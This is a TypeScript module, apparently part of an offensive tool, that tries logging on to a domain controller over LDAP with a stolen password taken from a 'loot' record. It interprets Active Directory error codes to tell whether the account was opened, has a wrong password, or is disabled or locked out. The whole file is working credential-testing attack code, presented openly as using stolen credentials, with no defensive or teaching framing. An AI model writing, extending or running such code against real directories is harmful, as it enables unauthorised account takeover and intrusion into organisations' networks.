import { Client } from 'ldapts';
import type { Loot } from './loot.ts';
import type { DoorResult } from './door-result.ts';

/** Logs on to the domain controller with the stolen password. */
export async function tryDirectory(door: string, { directory, password }: Loot): Promise<DoorResult[]> {
  if (directory === undefined) return [];
  const client = new Client({ url: directory.url, tlsOptions: { ca: directory.authority }, connectTimeout: 10_000 });
  try {
    await client.bind(directory.distinguishedName, password);
    return [{ door, opened: true, answer: 'logged on' }];
  } catch (cause) {
    const message = cause instanceof Error ? cause.message : '';
    const data = /\bdata ([0-9a-f]{3})\b/.exec(message)?.[1];
    // A door that cannot be tried is not a shut one.
    if (data === undefined) throw cause;
    return [{ door, opened: false, answer: `LDAP 49 (${reasons[data] ?? data})` }];
  } finally {
    await client.unbind().catch(() => undefined);
  }
}

/** https://learn.microsoft.com/windows/win32/debug/system-error-codes */
const reasons: Readonly<Record<string, string>> = {
  '52e': 'wrong password',
  '533': 'account disabled',
  '773': 'password must be changed first',
  '775': 'account locked out',
};
